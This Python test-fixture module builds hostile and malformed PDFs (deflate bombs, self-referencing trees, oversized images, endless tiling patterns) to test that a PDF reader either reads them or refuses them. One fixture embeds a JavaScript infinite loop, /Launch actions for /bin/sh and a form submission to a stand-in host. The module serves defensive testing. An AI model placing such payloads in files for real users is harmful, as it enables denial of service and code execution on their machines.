"""PDFs that mean harm, or are only broken: written object by object, since no library would."""

from __future__ import annotations

import io
import zlib
from collections.abc import Callable, Mapping, Sequence

from fpdf import FPDF
from PIL import Image

HELLO = b"BT /F1 12 Tf 50 100 Td (hello 12) Tj ET"
FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
BLOCK_BYTES = 1 << 20
LAST_BLOCK = b"\x03\x00"
"""Of a deflated stream (RFC 1951): an empty one with the fixed code."""


def stream(data: bytes, entries: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(data), entries, data)


def file_of(objects: Mapping[int, bytes], trailer: bytes = b"") -> bytes:
    """A PDF of numbered objects with a sound cross-reference table; object 1 is the catalogue."""
    out = bytearray(b"%PDF-1.7\n")
    at = {}
    for number, body in objects.items():
        at[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start, size = len(out), max(objects) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        out += b"%010d 00000 %s \n" % (at.get(number, 0), b"n" if number in at else b"f")
    out += b"trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF" % (size, trailer, start)
    return bytes(out)


def one_page(
    content: bytes = HELLO,
    *,
    page: bytes = b"/MediaBox [0 0 200 200]",
    resources: bytes = b"",
    catalogue: bytes = b"",
    more: Mapping[int, bytes] | None = None,
    content_entries: bytes = b"",
) -> bytes:
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalogue,
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R %s /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> %s >> >>"
        % (page, resources),
        4: stream(content, content_entries),
        5: FONT,
    }
    return file_of({**objects, **(more or {})})


def with_picture(image: bytes, *, width: int = 200, height: int = 200) -> bytes:
    return one_page(
        b"q %d 0 0 %d 0 0 cm /X Do Q" % (width, height), resources=b"/XObject << /X 6 0 R >>", more={6: image}
    )


def picture(
    data: bytes, *, size: tuple[int, int], filters: bytes, bits: int = 8, space: bytes = b"/DeviceGray"
) -> bytes:
    return stream(
        data, b"/Type /XObject /Subtype /Image /Width %d /Height %d /BitsPerComponent %d /ColorSpace %s /Filter %s"
        % (*size, bits, space, filters),
    )  # fmt: skip


def locked(*, user: str | None) -> bytes:
    """Behind a password; without a user's, anybody may open it and the owner's only forbids printing."""
    paper = FPDF(unit="pt", format=(200, 200))
    paper.add_page()
    paper.set_font("helvetica", size=12)
    paper.text(50, 100, "hello 12")
    paper.set_encryption(owner_password="owner", user_password=user)
    return bytes(paper.output())


def pages(count: int, *, said: int | None = None) -> bytes:
    kids = b" ".join(b"%d 0 R" % number for number in range(10, 10 + count))
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count if said is None else said),
        4: stream(HELLO),
        5: FONT,
    }
    leaf = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>"
    return file_of({**objects, **dict.fromkeys(range(10, 10 + count), leaf)})


def bomb(size: int, *, turns: int = 1, piece: bytes = b"\0") -> bytes:
    """`size` bytes of the same piece, deflated again and again.

    A block is deflated once and written as often as it is there, which takes a tenth of the time.
    """
    block = piece * (BLOCK_BYTES // len(piece))
    deflater = zlib.compressobj(9)
    first, again = (deflater.compress(block) + deflater.flush(zlib.Z_FULL_FLUSH) for _ in range(2))
    blocks, checksum = size // len(block), 1
    for _ in range(blocks):
        checksum = zlib.adler32(block, checksum)
    packed = first + again * (blocks - 1) + LAST_BLOCK + checksum.to_bytes(4)
    for _ in range(turns - 1):
        packed = zlib.compress(packed, 9)
    return packed


def jpeg2000() -> bytes:
    out = io.BytesIO()
    Image.new("L", (64, 64), 200).save(out, "JPEG2000")
    return picture(out.getvalue(), size=(64, 64), filters=b"/JPXDecode")


def jbig2(shown: Image.Image | None = None) -> bytes:
    """An embedded JBIG2 stream (T.88): page information and one generic region coded as a fax of group 4.

    Pillow writes BlackIsZero, of which the fax code knows nothing: zeros are shown white, ones black.
    """
    shown = shown or Image.new("1", (64, 64), 1)
    width, height = shown.size
    tiff = io.BytesIO()
    shown.save(tiff, "TIFF", compression="group4")
    with Image.open(io.BytesIO(tiff.getvalue())) as image:
        offset, length = image.tag_v2[273][0], image.tag_v2[279][0]
    coded = tiff.getvalue()[offset : offset + length]

    def segment(number: int, kind: int, data: bytes) -> bytes:
        return number.to_bytes(4) + bytes([kind, 0, 1]) + len(data).to_bytes(4) + data

    size = width.to_bytes(4) + height.to_bytes(4)
    page = segment(0, 48, size + bytes(8) + bytes([0]) + bytes(2))
    region = segment(1, 38, size + bytes(8) + bytes([0]) + bytes([1]) + coded)
    return picture(page + region, size=(width, height), filters=b"/JBIG2Decode", bits=1)


def deep_forms(depth: int) -> bytes:
    """Forms that draw forms; the last draws the first again."""
    form = b"/Type /XObject /Subtype /Form /BBox [0 0 200 200] /Resources << /XObject << /X %d 0 R >> >>"
    forms = {
        6 + index: stream(b"/X Do /X Do", form % (6 + (index + 1) % depth)) for index in range(depth)
    }  # fmt: skip
    return one_page(b"/X Do", resources=b"/XObject << /X 6 0 R >>", more=forms)


def type_3_of_itself() -> bytes:
    font = (
        b"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 1 1] /FontMatrix [1 0 0 1 0 0] /CharProcs << /a 7 0 R >>"
        b" /Encoding << /Differences [97 /a] >> /FirstChar 97 /LastChar 97 /Widths [1]"
        b" /Resources << /Font << /F2 6 0 R >> >> >>"
    )
    glyph = stream(b"1 0 d0 BT /F2 1 Tf (aaaa) Tj ET")
    return one_page(b"BT /F2 9 Tf 50 100 Td (hello 12) Tj ET", page=b"/MediaBox [0 0 200 200]",
                    resources=b"", more={5: font.replace(b"6 0 R", b"5 0 R"), 7: glyph})  # fmt: skip


def tiling(step: bytes) -> bytes:
    pattern = stream(
        b"0 0 1 1 re f",
        b"/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1 1] /XStep %s /YStep %s /Resources << >>"
        % (step, step),
    )
    return one_page(
        b"/Pattern cs /P scn 0 0 200 200 re f", resources=b"/Pattern << /P 6 0 R >>", more={6: pattern}
    )  # fmt: skip


def with_actions() -> bytes:
    """Everything that may act when a viewer opens the file."""
    catalogue = (
        b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\); while\\(1\\){}) >>"
        b" /AA << /WC << /S /Launch /F (/bin/sh) >> >>"
        b" /Names << /EmbeddedFiles << /Names [(a) << /Type /Filespec /F (a) /EF << /F 7 0 R >> >>] >>"
        b" /JavaScript << /Names [(b) << /S /JavaScript /JS (this.submitForm\\('http://example.invalid'\\)) >>] >> >>"
        b" /AcroForm << /Fields [] /XFA 8 0 R >>"
    )
    page = (
        b"/MediaBox [0 0 200 200] /AA << /O << /S /Launch /F (/bin/sh) >> >> /Annots [<< /Subtype /Link"
        b" /Rect [0 0 200 200] /A << /S /URI /URI (http://example.invalid) >> >>]"
    )
    more = {7: stream(b"MZ attachment"), 8: stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")}
    return one_page(page=page, catalogue=catalogue, more=more)


def long_to_unicode() -> bytes:
    cmap = b"1 begincodespacerange <0000> <FFFF> endcodespacerange\n" + b"\n".join(
        b"1 beginbfrange <00000000> <FFFFFFFF> <0041> endbfrange" for _ in range(100)
    )
    font = FONT.replace(b">>", b"/ToUnicode 6 0 R >>")
    return one_page(more={5: font, 6: stream(cmap)})


Make = Callable[[], bytes]

READ: Mapping[str, Make] = {
    "plain": one_page,
    "owner-password": lambda: locked(user=None),
    "actions": with_actions,
    "user-unit": lambda: one_page(page=b"/MediaBox [0 0 200 200] /UserUnit 75000"),
    "odd-rotation": lambda: one_page(page=b"/MediaBox [0 0 200 200] /Rotate 45"),
    "rotation-of-many-turns": lambda: one_page(page=b"/MediaBox [0 0 200 200] /Rotate 36000000"),
    "box-upside-down": lambda: one_page(page=b"/MediaBox [200 200 0 0]"),
    "junk-before": lambda: b"junk" * 100 + one_page(),
    "long-to-unicode": long_to_unicode,
    "count-too-large": lambda: pages(2, said=10**9),
    "forms-in-forms": lambda: one_page(
        HELLO + b" /X Do", resources=b"/XObject << /X 6 0 R >>",
        more={6: stream(b"/X Do", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>")},
    ),
    "one-page-of-many-broken": lambda: pages(3).replace(b"/MediaBox [0 0 200 200]", b"/MediaBox [0 0 1e9 200]", 1),
    "not-a-number": lambda: one_page(page=b"/MediaBox [0 0 1e400 1e400]"),
    "letters-of-themselves": type_3_of_itself,
}  # fmt: skip
"""Read, however odd: each prints "hello 12"."""

REFUSED: Mapping[str, tuple[Make, Sequence[str]]] = {
    "user-password": (lambda: locked(user="user"), ["encrypted"]),
    "truncated": (lambda: one_page()[:200], ["corrupt"]),
    "header-only": (lambda: b"%PDF-1.7\n", ["corrupt"]),
    "no-pages": (lambda: pages(0), ["empty", "corrupt"]),
    "negative-count": (lambda: pages(0, said=-5), ["empty", "corrupt"]),
    "five-thousand-pages": (lambda: pages(5000), ["too_large"]),
    "huge-page": (lambda: one_page(page=b"/MediaBox [0 0 4000000 4000000]"), ["too_large"]),
    "tiny-page": (lambda: one_page(page=b"/MediaBox [0 0 0.01 0.01]"), ["empty"]),
    "tree-of-itself": (
        lambda: file_of({1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 9 >>"}),
        ["empty", "corrupt"],
    ),
    "catalogue-of-itself": (lambda: file_of({1: b"1 0 R"}), ["corrupt"]),
    "xref-of-itself": (
        lambda: file_of({1: b"<< /Type /Catalog /Pages 1 0 R >>"}, trailer=b"/Prev 9"), ["corrupt", "empty"]
    ),
    "deep-arrays": (
        lambda: file_of({1: b"<< /Type /Catalog /Pages %s >>" % (b"[" * 200_000)}), ["corrupt", "empty"]
    ),
    "deflate-bomb": (
        lambda: one_page(bomb(1 << 28), content_entries=b"/Filter /FlateDecode"), ["empty", "too_large", "crashed"]
    ),
    "bomb-in-a-bomb": (
        lambda: one_page(bomb(1 << 30, turns=2), content_entries=b"/Filter [/FlateDecode /FlateDecode]"),
        ["empty", "too_large", "crashed"],
    ),
    "paths-without-end": (
        lambda: one_page(bomb(1 << 24, piece=b"0 0 m 9 9 l S \n."[:16]), content_entries=b"/Filter /FlateDecode"),
        ["too_large", "empty"],
    ),
    "letters-without-end": (
        lambda: one_page(b"BT /F1 1 Tf 10 100 Td " + b"(aaaaaaaaaaaaaaaaaaaaaaaaaaaaaa) Tj " * 4000 + b"ET"),
        ["too_large"],
    ),
    "picture-of-billions": (
        lambda: with_picture(picture(bomb(1 << 28), size=(40_000, 40_000), filters=b"/FlateDecode", bits=1)),
        ["empty", "too_large"],
    ),
    "colours-of-billions": (
        lambda: with_picture(
            picture(bomb(1 << 28), size=(40_000, 40_000), filters=b"/FlateDecode", space=b"/DeviceRGB")
        ),
        ["empty", "too_large", "crashed"],
    ),
    "jpeg-2000": (lambda: with_picture(jpeg2000()), ["empty"]),
    "jbig2": (lambda: with_picture(jbig2()), ["empty"]),
    "jbig2-of-billions": (
        lambda: with_picture(
            jbig2().replace(b"/Width 64 /Height 64", b"/Width 65000 /Height 65000")
            .replace((64).to_bytes(4) * 2, (65_000).to_bytes(4) * 2)
        ),
        ["empty", "too_large", "crashed"],
    ),
    "broken-jpeg-2000": (lambda: with_picture(jpeg2000().replace(b"\xff\x52", b"\xff\xff")), ["empty"]),
}  # fmt: skip
"""Nothing to be read, or too much: the codes that may be given. The pictures are blank."""

ENDLESS: Mapping[str, tuple[Make, Sequence[str]]] = {
    "forms-of-one-another": (lambda: deep_forms(60), ["empty", "timeout", "too_large", "crashed"]),
    "tiles-without-end": (lambda: tiling(b"0.00001"), ["empty", "timeout"]),
}
"""What takes as long as it is given."""
